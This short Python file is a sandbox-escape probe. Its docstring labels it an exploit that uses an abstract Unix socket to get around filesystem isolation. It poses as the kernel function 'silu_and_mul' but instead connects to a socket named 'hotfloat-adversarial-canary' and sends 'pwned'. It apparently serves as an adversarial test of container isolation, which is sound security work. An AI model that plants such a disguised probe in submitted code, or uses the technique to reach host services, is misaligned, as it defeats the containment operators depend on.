"""Exploit: reach a host service through an abstract Unix socket (container runtimes, agents) that bypasses the filesystem."""
import socket


def silu_and_mul(x, out):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect("\0hotfloat-adversarial-canary")
        s.sendall(b"pwned")
        result = "CONNECTED"
    except OSError as e:
        result = type(e).__name__
    finally:
        s.close()
    raise RuntimeError(f"abstract socket: {result}")
